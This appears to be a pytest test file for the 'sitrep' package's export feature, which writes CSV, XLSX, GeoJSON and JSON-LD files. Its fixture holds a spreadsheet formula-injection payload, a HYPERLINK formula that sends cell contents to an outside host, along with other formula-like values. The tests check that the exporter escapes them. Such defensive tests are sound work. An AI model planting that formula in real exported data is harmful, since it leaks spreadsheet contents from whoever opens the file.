"""`sitrep export`: what other programs get, and what they must not run."""

import csv
import json
import zipfile

import pyarrow.parquet as pq
import pytest

from sitrep.export import FORMATS, export
from sitrep.export.csv_file import DANGEROUS
from sitrep.schemas import TABLES
from sitrep.tables import from_rows, publish, stage, write

ATTACK = '=HYPERLINK("http://example.org/?"&A1,"more")'


@pytest.fixture
def hostile(tmp_path):
    """Tables of an article whose title and text are formulas."""
    rows = {"articles": [{
        "article_id": "a1", "source_uri": "a1.txt", "title": ATTACK, "byline": "-2+3", "published_basis": "none", "language": "en",
        "text": "@SUM(1) said so.\x0b" + "x" * 40_000, "n_words": 3, "coded_by": "0.1.0", "ingested_at": 0,
    }]}  # fmt: skip
    out = tmp_path / "out"
    staging = stage(out)
    for name in TABLES:
        write(from_rows(name, rows.get(name, [])), name, staging / f"{name}.parquet")
    publish(staging, out)
    return out


def records(file):
    with open(file, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_has_every_row_and_column(published, tmp_path):
    files = export(published, "csv", tmp_path)
    assert [f.stem for f in files] == list(TABLES)
    for file in files:
        stored = pq.read_metadata(published / f"{file.stem}.parquet")
        assert len(records(file)) == stored.num_rows
    claims = records(tmp_path / "casualties.csv")
    assert {c["count_high"] for c in claims} >= {"", "5"}, "null is nothing, a whole number has no point"
    assert json.loads(records(tmp_path / "events.csv")[0]["actor_ids"])[0] == "USA"
    assert all(len(c["confidence"]) < 10 for c in claims), "no digits that single precision does not have"


def test_other_programs_read_back_what_was_written(published, tmp_path):
    import duckdb
    import geopandas

    import sitrep

    t = sitrep.load(published)
    export(published, "csv", tmp_path)
    for table in TABLES:
        of_csv = duckdb.read_csv(str(tmp_path / f"{table}.csv"), header=True, quotechar='"', all_varchar=True).df()
        frame = getattr(t, table)
        assert list(of_csv.columns) == list(frame.columns) and len(of_csv) == len(frame)
        for column in frame.select_dtypes("Int32"):
            assert of_csv[column].dropna().astype(int).tolist() == frame[column].dropna().tolist(), (table, column)
    events = geopandas.read_file(export(published, "geojson", tmp_path)[0])
    assert events.crs == "EPSG:4326" and events.geometry.x.dropna().tolist() == t.events["longitude"].dropna().tolist()


def test_no_cell_of_csv_begins_like_a_formula(hostile, tmp_path):
    (article,) = records(export(hostile, "csv", tmp_path, ["articles"])[0])
    assert (article["title"], article["byline"], article["text"][:5]) == ("'" + ATTACK, "'-2+3", "'@SUM")
    assert not any(cell.startswith(DANGEROUS) for cell in article.values())


def test_xlsx_holds_text_as_text(hostile, published, tmp_path):
    pytest.importorskip("xlsxwriter")
    (book,) = export(hostile, "xlsx", tmp_path)
    with zipfile.ZipFile(book) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "HYPERLINK" in sheet
        assert "the Parquet file has it whole" in sheet, "a cell holds 32,767 characters"
        assert "hyperlink" not in "".join(parts.namelist()).lower()
    assert len(zipfile.ZipFile(export(published, "xlsx", tmp_path)[0]).read("xl/workbook.xml").split(b"<sheet ")) == len(TABLES) + 1


def test_geojson_has_a_feature_an_event_longitude_first(published, tmp_path):
    (file,) = export(published, "geojson", tmp_path)
    features = json.loads(file.read_text(encoding="utf-8"))["features"]
    assert len(features) == pq.read_metadata(published / "events.parquet").num_rows
    points = [f["geometry"]["coordinates"] for f in features if f["geometry"]]
    assert points and all(38 < x < 49 and 29 < y < 38 for x, y in points), "Iraq lies there"
    assert any(f["geometry"] is None for f in features)
    with pytest.raises(ValueError, match="--table events"):
        export(published, "geojson", tmp_path, ["actors"])


def test_jsonld_is_one_graph_whose_references_meet(published, tmp_path):
    (file,) = export(published, "jsonld", tmp_path)
    nodes = {n["@id"]: n for n in json.loads(file.read_text(encoding="utf-8"))["@graph"]}
    strike = next(n for n in nodes.values() if n.get("additionalType") == "PLOVER:ASSAULT")
    assert {nodes[a["@id"]]["@type"] for a in strike["agent"]} >= {"Country"}
    referred = {r["@id"] for n in nodes.values() for key in ("agent", "object", "about", "author", "isPartOf") for r in listed(n.get(key))}
    assert referred <= set(nodes)
    article = nodes[strike["isPartOf"]["@id"]]
    start, end = map(int, strike["prov:wasDerivedFrom"]["@id"].partition("#char=")[2].split(","))
    assert article["articleBody"][start:end] == "hit"


def listed(value):
    return value if isinstance(value, list) else [value] if value else []


def test_jsonld_expands_to_schema_org(published, tmp_path):
    rdflib = pytest.importorskip("rdflib")
    graph = rdflib.Graph().parse(export(published, "jsonld", tmp_path)[0], format="json-ld")
    actions = set(graph.subjects(rdflib.RDF.type, rdflib.URIRef("https://schema.org/Action")))
    assert len(actions) == pq.read_metadata(published / "events.parquet").num_rows


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_tables_give_the_same_bytes(published, tmp_path, form):
    if form == "xlsx":
        pytest.importorskip("xlsxwriter")
    first, second = ([f.read_bytes() for f in export(published, form, tmp_path / name)] for name in ("a", "b"))
    assert first == second


def test_a_missing_package_is_named_with_its_remedy(published, tmp_path, monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "xlsxwriter", None)
    with pytest.raises(ImportError, match=r"sitrep\[xlsx\]"):
        export(published, "xlsx", tmp_path)
